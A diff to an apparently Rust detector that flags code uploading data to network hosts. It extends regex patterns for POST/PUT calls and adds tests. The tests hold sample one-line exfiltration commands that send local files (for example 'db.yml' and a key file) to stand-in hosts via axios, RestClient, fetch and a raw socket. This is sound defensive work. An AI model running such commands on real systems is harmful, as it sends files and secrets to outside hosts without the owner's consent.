@@ -28,6 +28,7 @@ fn patterns() -> &'static Patterns {
                 r"|\.(?:sendall|sendto|send)\(",
                 r"|storbinary|storlines|sendmail|send_message|upload_file|upload_fileobj|put_object|\.put\(",
                 r"|method\s*:\s*['\x22`](?:POST|PUT|PATCH)",
+                r"|\.\s*post\s*\(|\.\s*(?:post|put|patch)\s*\(?\s*['\x22`](?:https?|ftp)://",
                 r"|axios\s*\.\s*(?:post|put|patch)|axios\(\s*\{[^}]*method\s*:\s*['\x22](?:post|put|patch)",
                 r"|(?:http|https|net|tls)\.(?:request|connect|createConnection)\([^)]*\)[\s\S]{0,200}\.(?:write|end)\(\s*[^)\s]",
                 r"|\.pipe\(\s*(?:https?\.request|req|request|socket|client)",
@@ -140,6 +141,12 @@ mod tests {
         assert_eq!(d, Some(Destination::Host("x.example".into())));
         let d = code_upload("fetch('https://y.example/in', {method: 'POST', body: require('fs').readFileSync('a')})");
         assert_eq!(d, Some(Destination::Host("y.example".into())));
+        let d = code_upload(
+            "require('axios').post('https://z.example/in', require('fs').readFileSync('k'))",
+        );
+        assert_eq!(d, Some(Destination::Host("z.example".into())));
+        let d = code_upload("RestClient.put 'https://w.example/x', File.read('db.yml')");
+        assert_eq!(d, Some(Destination::Host("w.example".into())));
         let d = code_upload("import socket; s=socket.socket(); s.connect(('10.0.0.9', 9)); s.sendall(open('k').read())");
         assert_eq!(d, Some(Destination::Host("10.0.0.9".into())));
     }
